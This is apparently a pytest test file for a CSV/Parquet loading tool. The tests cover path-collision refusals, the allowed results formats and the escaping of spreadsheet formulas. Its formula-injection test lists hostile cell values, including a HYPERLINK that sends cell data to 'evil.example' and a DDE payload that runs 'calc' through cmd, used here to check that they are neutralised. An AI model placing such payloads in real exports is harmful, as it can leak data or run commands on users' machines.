"""What a load writes never takes the place of another file: the input, the mapping, the ledger and its side
files, or a file the tool did not write; results are .csv or .parquet; the CSV results cannot run formulas."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from load_helpers import csv_text, meeting_rows, posts, result_rows, run_load, write_rows

from connector.errors import ConfigError
from connector.load import LoadConfig, load_sync
from connector.paths import same_path

# ------------------------------------------------------------------------------------ colliding paths

# Each case: (files to make beside the input "in.csv" -> arguments of the load, the roles the error names).
Setup = Callable[[Path], list[str]]


def _symlink(target: str, name: str) -> Setup:
    def setup(d: Path) -> list[str]:
        (d / name).symlink_to(d / target)
        return []

    return setup


def _hardlink(d: Path) -> list[str]:
    os.link(d / "in.csv", d / "twin.csv")
    return ["--results", str(d / "twin.csv")]


COLLISIONS: list[tuple[str, Callable[[Path], list[str]], str]] = [
    ("results-is-input", lambda d: ["--results", str(d / "in.csv")], "the results file and the input"),
    (
        "results-dot-slash-input",
        lambda d: ["--results", str(d / "." / "in.csv")],
        "the results file and the input",
    ),
    (
        "results-symlink-to-input",
        lambda d: [*_symlink("in.csv", "link.csv")(d), "--results", str(d / "link.csv")],
        "the results file and the input",
    ),
    (
        "results-relative-to-input",
        lambda d: ["--results", str(d / "sub" / ".." / "in.csv")],
        "the results file and the input",
    ),
    ("results-hard-link-to-input", _hardlink, "the results file and the input"),
    ("ledger-is-input", lambda d: ["--ledger", str(d / "in.csv")], "the ledger and the input"),
    (
        "results-is-ledger",
        lambda d: ["--results", str(d / "x.csv"), "--ledger", str(d / "x.csv")],
        "the results file and the ledger",
    ),
    (
        "results-symlink-to-ledger",
        lambda d: [
            *_symlink("x.csv", "y.csv")(d),
            "--results",
            str(d / "y.csv"),
            "--ledger",
            str(d / "x.csv"),
        ],
        "the results file and the ledger",
    ),
    (
        "parquet-part-is-ledger",
        lambda d: ["--results", str(d / "r.parquet"), "--ledger", str(d / "r.parquet.part")],
        "the results file's temporary copy and the ledger",
    ),
    (
        "results-is-mapping",
        lambda d: ["--results", str(d / "map.csv"), "--mapping", str(d / "map.csv")],
        "the results file and the mapping",
    ),
]


def _make_dir(tmp_path: Path) -> Path:
    d = tmp_path / "work"
    (d / "sub").mkdir(parents=True)
    (d / "in.csv").write_text(csv_text(meeting_rows(5)))
    (d / "map.csv").write_text("[defaults]\ntimezone = 'UTC'\n")
    return d


def _snapshot(d: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in d.iterdir() if p.is_file()}


@pytest.mark.parametrize(("setup", "roles"), [c[1:] for c in COLLISIONS], ids=[c[0] for c in COLLISIONS])
def test_a_written_file_that_is_another_file_of_the_load_is_refused(
    emulator: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    setup: Any,
    roles: str,
) -> None:
    d = _make_dir(tmp_path)
    args = setup(d)
    before = _snapshot(d)
    run = run_load(emulator, monkeypatch, capsys, str(d / "in.csv"), *args)
    assert run.code == 2
    assert run.err.startswith("error: ") and len(run.err.strip().splitlines()) == 1
    assert f"{roles} are the same file" in run.err and "nothing was sent or written" in run.err
    assert posts(emulator) == 0
    assert _snapshot(d) == before  # no file changed, none created (no ledger, no lock file, no results)


def test_the_example_a_3000_row_input_named_as_its_own_results_stays_whole(
    emulator: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    big = write_rows(tmp_path / "big.csv", meeting_rows(3000))
    before = big.read_bytes()
    run = run_load(emulator, monkeypatch, capsys, str(big), "--results", str(big))
    assert run.code == 2 and "the results file and the input are the same file" in run.err
    assert big.read_bytes() == before and posts(emulator) == 0
    # The library refuses it too, dry run or not.
    with pytest.raises(ConfigError, match="the results file and the input are the same file"):
        load_sync(big, LoadConfig(results_path=big, dry_run=True))
    assert big.read_bytes() == before


@pytest.mark.parametrize(
    ("input_name", "ledger_name", "role"),
    [
        ("L-wal", "L", "WAL file"),
        ("L.lock", "L", "lock file"),
        ("L-shm", "L", "shared-memory file"),
        ("L-journal", "L", "journal"),
    ],
    ids=["wal", "lock", "shm", "journal"],
)
def test_a_ledger_side_file_that_is_the_input_is_refused(
    emulator: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    input_name: str,
    ledger_name: str,
    role: str,
) -> None:
    # SQLite deletes its -wal file on close: named like the input, it would take the input with it.
    source = tmp_path / input_name
    source.write_text(csv_text(meeting_rows(3)))
    before = _snapshot(tmp_path)
    run = run_load(
        emulator,
        monkeypatch,
        capsys,
        str(source),
        "--ledger",
        str(tmp_path / ledger_name),
        "--results",
        str(tmp_path / "r.csv"),
    )
    assert run.code == 2 and f"the ledger's {role} and the input are the same file" in run.err
    assert _snapshot(tmp_path) == before and posts(emulator) == 0


# ------------------------------------------------------------------------------- the results file itself


@pytest.mark.parametrize(
    "name", ["r.xlsx", "r.json", "r.txt", "r.tsv", "results"], ids=["xlsx", "json", "txt", "tsv", "no-suffix"]
)
def test_a_results_name_that_is_not_csv_or_parquet_is_refused(
    emulator: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    name: str,
) -> None:
    source = write_rows(tmp_path / "in.csv", meeting_rows(3))
    run = run_load(emulator, monkeypatch, capsys, str(source), "--results", str(tmp_path / name))
    assert (
        run.code == 2 and f"results file {tmp_path / name}: the name must end in .csv or .parquet" in run.err
    )
    assert (
        not (tmp_path / name).exists()
        and not (tmp_path / "in.ledger.sqlite").exists()
        and posts(emulator) == 0
    )


@pytest.mark.parametrize(
    "name", ["r.csv", "R.CSV", "r.parquet", "r.pq"], ids=["csv", "upper-csv", "parquet", "pq"]
)
def test_csv_and_parquet_results_hold_every_row(
    emulator: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    name: str,
) -> None:
    source = write_rows(tmp_path / "in.csv", meeting_rows(6))
    run = run_load(emulator, monkeypatch, capsys, str(source), "--results", str(tmp_path / name))
    assert run.code == 0, run.err
    if name.lower().endswith(".csv"):
        numbers = sorted(result_rows(tmp_path / name))
    else:
        numbers = sorted(pq.read_table(tmp_path / name).column("row_number").to_pylist())
    assert numbers == list(range(2, 8))


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"name,email\nana,ana@acme.com\n", "people.csv"),
        (b"", "data.parquet"),  # placeholder: replaced by a real Parquet table below
        (b"\xef\xbb\xbfsome notes I keep\n", "notes.csv"),
    ],
    ids=["someone-elses-csv", "someone-elses-parquet", "text-with-bom"],
)
def test_an_existing_file_that_is_not_a_results_file_is_left_alone(
    emulator: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    content: bytes,
    name: str,
) -> None:
    import pyarrow as pa

    target = tmp_path / name
    if name.endswith(".parquet"):
        pq.write_table(pa.table({"a": [1, 2]}), target)
    else:
        target.write_bytes(content)
    before = target.read_bytes()
    source = write_rows(tmp_path / "in.csv", meeting_rows(3))
    run = run_load(emulator, monkeypatch, capsys, str(source), "--results", str(target))
    assert run.code == 2 and "exists and is not a results file of this tool; it was left as it is" in run.err
    assert target.read_bytes() == before and posts(emulator) == 0


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_results_file_of_an_earlier_run_or_an_empty_file_is_replaced(
    emulator: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    suffix: str,
) -> None:
    source = write_rows(tmp_path / "in.csv", meeting_rows(4))
    results = tmp_path / f"out{suffix}"
    results.write_bytes(b"")
    for _ in range(2):  # the second run replaces the file the first one wrote
        assert run_load(emulator, monkeypatch, capsys, str(source), "--results", str(results)).code == 0
    numbers = (
        sorted(result_rows(results))
        if suffix == ".csv"
        else sorted(pq.read_table(results).column("row_number").to_pylist())
    )
    assert numbers == [2, 3, 4, 5]


# ---------------------------------------------------------------------------------------- same_path


def _case_insensitive(tmp_path: Path) -> bool:
    probe = tmp_path / "Probe"
    probe.write_text("")
    return (tmp_path / "probe").exists()


@pytest.mark.parametrize(
    ("a", "b", "same"),
    [
        ("f.csv", "f.csv", True),
        ("f.csv", "./f.csv", True),
        ("f.csv", "d/../f.csv", True),
        ("f.csv", "link.csv", True),
        ("f.csv", "hard.csv", True),
        ("new.csv", "./new.csv", True),
        ("new.csv", "linkdir/new.csv", True),
        ("f.csv", "g.csv", False),
        ("f.csv", "F.csv", None),  # the same only on a case-insensitive file system
        ("loop", "f.csv", False),
    ],
    ids=[
        "same",
        "dot",
        "dotdot",
        "symlink",
        "hard-link",
        "missing-dot",
        "missing-via-dir-link",
        "other",
        "case",
        "loop",
    ],
)
def test_same_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, a: str, b: str, same: bool | None
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "d").mkdir()
    (tmp_path / "f.csv").write_text("x")
    (tmp_path / "g.csv").write_text("x")  # same content, another file
    (tmp_path / "link.csv").symlink_to(tmp_path / "f.csv")
    os.link(tmp_path / "f.csv", tmp_path / "hard.csv")
    (tmp_path / "linkdir").symlink_to(tmp_path)
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    expected = _case_insensitive(tmp_path / "d") if same is None else same
    assert same_path(Path(a), Path(b)) is expected
    assert same_path(Path(b), Path(a)) is expected


# ------------------------------------------------------------------------------------ formula injection

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


def test_results_csv_cells_that_would_run_as_formulas_are_neutralised_and_parquet_keeps_them(
    emulator: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # (external_ref in the file, as the results CSV shows it): the loader strips a ref's outer blanks first.
    refs = [(f, "'" + f) for f in FORMULAS[:4]] + [
        ("  =x", "'=x"),
        ("\t@x", "'@x"),
        ("plain-ref", "plain-ref"),
    ]
    rows = meeting_rows(len(refs))
    for row, (ref, _) in zip(rows, refs, strict=True):
        row[0] = ref
    rows.append(["=1+1", "", "2031-01-01T10:00:00Z", "", "nobody"])  # rejected: its ref is echoed too
    refs.append(("=1+1", "'=1+1"))
    source = write_rows(tmp_path / "in.csv", rows)
    run = run_load(emulator, monkeypatch, capsys, str(source), "--results", str(tmp_path / "r.csv"))
    assert run.code == 1, run.err  # the last row is invalid
    by_row = result_rows(tmp_path / "r.csv")
    assert sorted(by_row) == list(range(2, len(rows) + 2))
    assert [by_row[n]["external_ref"] for n in range(2, len(rows) + 2)] == [shown for _, shown in refs]
    assert by_row[len(rows) + 1]["outcome"] == "rejected"
    assert not any(
        v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in by_row.values() for v in r.values()
    )

    source2 = write_rows(tmp_path / "in2.csv", rows)
    assert (
        run_load(emulator, monkeypatch, capsys, str(source2), "--results", str(tmp_path / "r.parquet")).code
        == 1
    )
    table = pq.read_table(tmp_path / "r.parquet").to_pylist()
    assert sorted(r["external_ref"] for r in table) == sorted(ref.strip() for ref, _ in refs)  # exact values


@pytest.mark.parametrize("tables", [["customers"], ["a", "b", "refs_old"]], ids=["one-table", "several-tables"])
def test_a_ledger_that_is_someone_elses_database_is_refused_and_left_as_it_was(
    emulator: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tables: list[str]
) -> None:
    import sqlite3

    app = tmp_path / "app.db"
    with sqlite3.connect(app) as db:
        for table in tables:
            db.execute(f"CREATE TABLE {table} (id INTEGER)")
    before = app.read_bytes()
    source = write_rows(tmp_path / "in.csv", meeting_rows(3))
    run = run_load(emulator, monkeypatch, capsys, str(source), "--ledger", str(app))
    assert run.code == 2 and "is an SQLite database of something else" in run.err, run.err
    assert app.read_bytes() == before and posts(emulator) == 0


def test_a_finished_load_leaves_only_its_results_and_ledger(
    emulator: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_rows(tmp_path / "in.csv", meeting_rows(3))
    assert run_load(emulator, monkeypatch, capsys, str(source)).code == 0
    left = {p.name for p in tmp_path.iterdir()} - {"in.ledger.sqlite-wal", "in.ledger.sqlite-shm"}
    assert left == {"in.csv", "in.results.csv", "in.ledger.sqlite"}  # the lock file went with the lock
